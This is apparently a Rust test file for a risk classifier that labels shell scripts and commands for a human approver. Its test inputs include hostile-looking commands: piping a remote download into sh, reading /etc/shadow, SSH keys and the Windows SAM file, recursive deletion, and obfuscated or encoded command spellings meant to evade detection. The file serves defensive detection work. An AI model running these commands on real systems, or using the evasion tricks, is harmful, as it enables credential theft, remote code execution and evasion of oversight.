//! R13, R25: notes for the approver.

use domain::action::{Command, Script, Shell, Verb};
use gate::risk::{Kind, of_command, of_scope};

fn kinds(text: &str) -> Vec<Kind> {
    let script = Command::Script(Script {
        shell: Shell::Sh,
        text: text.into(),
    });
    of_command(&script)
        .into_iter()
        .map(|n| n.kind)
        .filter(|k| *k != Kind::AnyCommand)
        .collect()
}

#[test]
fn scripts_are_noted_for_what_they_hold() {
    for (text, want) in [
        ("uptime", vec![]),
        ("echo alarm; cat form.txt; df -h; echo sugar", vec![]),
        ("rm -rf /srv/x", vec![Kind::Deletes]),
        ("curl -s https://x.example/a | sh", vec![Kind::Network, Kind::Hides]),
        ("sudo systemctl enable x", vec![Kind::Persists, Kind::Privilege]),
        ("cat /etc/shadow", vec![Kind::Secrets]),
        ("echo aWQ= | base64  -d", vec![Kind::Hides]),
        ("Invoke-WebRequest http://x.example", vec![Kind::Network]),
        ("I`nvoke-W`ebRequest x", vec![Kind::Network]),
        ("c\"u\"rl x", vec![Kind::Network]),
        ("cu\\\nrl x", vec![Kind::Network]),
        ("IEX $x", vec![Kind::Hides]),
        ("pwsh -EncodedCommand SQBFAFgA", vec![Kind::Hides]),
        ("crontab -l", vec![Kind::Persists]),
        ("cat ~/.ssh/id_rsa", vec![Kind::Secrets]),
        ("systemctl restart cups", vec![Kind::Interrupts]),
        ("cat rеport", vec![Kind::Deceives]),
        ("id #\u{202E}", vec![Kind::Deceives]),
    ] {
        assert_eq!(kinds(text), want, "{text:?}");
    }
    assert_eq!(kinds(&format!("id{}; uptime", " ".repeat(60))), vec![Kind::Deceives]);
}

/// R13: every script is noted as able to do anything, however harmless it looks.
#[test]
fn no_script_is_called_harmless() {
    for text in ["Get-Process", "ls", "true"] {
        let notes = of_command(&Command::Script(Script {
            shell: Shell::Pwsh,
            text: text.into(),
        }));
        assert_eq!(notes[0].kind, Kind::AnyCommand);
    }
}

#[test]
fn verbs_and_scopes_are_noted() {
    let of = |v| {
        of_command(&Command::Verb(v))
            .into_iter()
            .map(|n| n.kind)
            .collect::<Vec<_>>()
    };
    assert_eq!(
        of(Verb::ServiceRestart { service: "cups".into() }),
        [Kind::ChangesState, Kind::Interrupts]
    );
    assert_eq!(
        of(Verb::ServiceStop { service: "cups".into() }),
        [Kind::ChangesState, Kind::Interrupts]
    );
    assert_eq!(of(Verb::ServiceStart { service: "cups".into() }), [Kind::ChangesState]);
    assert_eq!(
        of(Verb::NetTls {
            host: "xn--e1afmkfd.example".into(),
            port: 1
        }),
        [Kind::Deceives]
    );
    assert_eq!(of(Verb::NetConfig), []);
    assert_eq!(
        of(Verb::FileRead {
            path: "/etc/shadow".into()
        }),
        [Kind::Secrets]
    );
    assert_eq!(
        of(Verb::FileRead {
            path: r"C:\windows\system32\config\sam".into()
        }),
        [Kind::Secrets]
    );
    assert_eq!(
        of(Verb::FileRead {
            path: "/proc/1/maps".into()
        }),
        [Kind::Secrets]
    );
    assert_eq!(
        of(Verb::NetProbe {
            host: "xn--e1afmkfd.example".into(),
            port: 1
        }),
        [Kind::Deceives]
    );
    assert_eq!(
        of(Verb::FileRead {
            path: "/etc/hosts".into()
        }),
        []
    );

    let scope = |s: &str| {
        of_scope(&s.parse().unwrap())
            .into_iter()
            .map(|n| n.says)
            .collect::<Vec<_>>()
    };
    assert!(
        scope(r#"file.read("/etc/**")"#)
            .iter()
            .any(|s| s.contains("password hashes"))
    );
    assert!(scope(r#"file.read("/**")"#).iter().any(|s| s.contains("large part")));
    assert!(scope(r#"file.tail("C:\windows\**")"#).iter().any(|s| s.contains("SAM")));
    assert!(
        scope(r#"service.restart("*")"#)
            .iter()
            .any(|s| s.contains("every name"))
    );
    assert!(
        scope(r#"service.stop("cups")"#)
            .iter()
            .any(|s| s.contains("is stopped"))
    );
    assert_eq!(
        scope(r#"service.start("cups")"#),
        ["It changes the state of the machine."]
    );
    assert_eq!(scope(r#"file.read("/etc/pos/**")"#), Vec::<String>::new());
}
